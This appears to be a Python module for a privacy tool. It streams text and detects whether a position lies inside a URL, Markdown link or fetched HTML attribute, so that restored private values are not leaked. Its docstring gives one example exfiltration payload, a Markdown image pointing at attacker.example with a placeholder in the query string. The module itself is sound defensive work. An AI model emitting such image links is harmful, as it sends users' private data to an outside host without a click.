"""Where a text is the target of a link or an image.

A chat window fetches the images of an answer without a click, so a value that is restored inside a
URL leaves the machine: `![](https://attacker.example/?q=[EMAIL_7K2Q])`. The scanner knows, at every
position, whether the text before it has begun a URL: `scheme://`, `www.`, the target of a Markdown
link or definition, an HTML attribute that is fetched, `//` behind a quote, a bracket or an equals
sign, or a scheme with escaped slashes. A placeholder that *is* the whole beginning of a target is
not inside: nobody chose a host for it.

It reads a text once, from left to right, in pieces of any size.
"""

import re
from dataclasses import dataclass

_TRIGGER = re.compile(
    r"(?P<bare>:(?:\\{0,2}/){2}|(?<![\w@])www\.|\]:\s{0,8}<?//|(?<=[\"'(={`])//\w)"
    r"|(?P<link>\]\()"
    r"|(?P<attribute>(?<!\w)(?:src|href|srcset|poster|action|formaction|background)\s{0,8}=)",
    re.IGNORECASE,
)
_CARRY = 32
_END = {
    "bare": re.compile(r"[\s<>\"'`]"),
    "link": re.compile(r"[\s)]"),
    "angle": re.compile(r"[>\r\n]"),
    '"': re.compile(r"\""),
    "'": re.compile(r"'"),
    "unquoted": re.compile(r"[\s>]"),
}
_BLANK = re.compile(r"\s*")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*\Z")


def may_link(text: str) -> bool:
    """Tell whether a text holds what a link can begin with, also once a part of it is replaced."""
    # fixed strings are found many times faster than a pattern
    return "//" in text or "\\/" in text or "](" in text or "=" in text or "www." in text.lower()


@dataclass(slots=True)
class LinkScanner:
    """Says whether the position reached is inside a URL.

    Attributes:
        begin: Offset at which the present target began; meaningful while `open`.
    """

    begin: int = 0
    _mode: str = ""
    _at: int = 0
    _carry: str = ""
    _fresh: bool = False

    @property
    def open(self) -> bool:
        """Whether a target is open, also when nothing of it was read yet."""
        return bool(self._mode)

    @property
    def inside(self) -> bool:
        """Whether the next character continues a target that has begun."""
        return bool(self._mode) and not self._fresh

    def read(self, text: str) -> None:
        """Read the next piece of text."""
        piece = self._carry + text
        if self._mode or may_link(piece):
            self._scan(piece, len(self._carry))
        self._at += len(text)
        self._carry = piece[-_CARRY:]

    def _scan(self, piece: str, at: int) -> None:
        base = self._at - at
        while at < len(piece):
            if not self._mode:
                found = _TRIGGER.search(piece, max(0, at - _CARRY))
                while found and found.end() <= at:
                    found = _TRIGGER.search(piece, found.end())
                if not found:
                    break
                at = found.end()
                self._start(found, piece, base)
            elif self._fresh:
                at = self._first(piece, at, base)
            elif ended := _END[self._mode].search(piece, at):
                at = ended.end()
                self._mode = ""
            else:
                break

    def skip(self, length: int) -> None:
        """Pass a placeholder: it is opaque, and no trigger reaches across it."""
        self._at += length
        self._carry = ""
        self._settle()

    def _settle(self) -> None:
        if self._fresh:
            self._fresh = False
            self._mode = "unquoted" if self._mode == "attribute" else self._mode

    def _start(self, found: re.Match[str], piece: str, base: int) -> None:
        kind = found.lastgroup or ""
        self._mode = kind
        self._fresh = kind != "bare"
        self.begin = base + found.end()
        if kind == "bare":
            start = found.start()
            scheme = _SCHEME.search(piece, 0, start) if piece[start] == ":" else None
            self.begin = base + (scheme.start() if scheme else start)

    def _first(self, piece: str, at: int, base: int) -> int:
        """Read the first character of a target, which decides how the target ends."""
        blank = _BLANK.match(piece, at)
        assert blank is not None
        at = blank.end()
        self.begin = base + at
        if at == len(piece):
            return at
        first = piece[at]
        if self._mode == "attribute" and first in "\"'":
            # the quote opens the value; whether anything of it was read is still open
            self._mode = first
            self.begin = base + at + 1
            return at + 1
        if self._mode == "link" and first == "<":
            self._mode = "angle"
            self.begin = base + at + 1
            return at + 1
        self._settle()
        return at

    def end(self, text: str, start: int) -> int:
        """Return where the open target ends in `text`, looking from `start` on."""
        found = _END[self._mode].search(text, start)
        return found.start() if found else len(text)
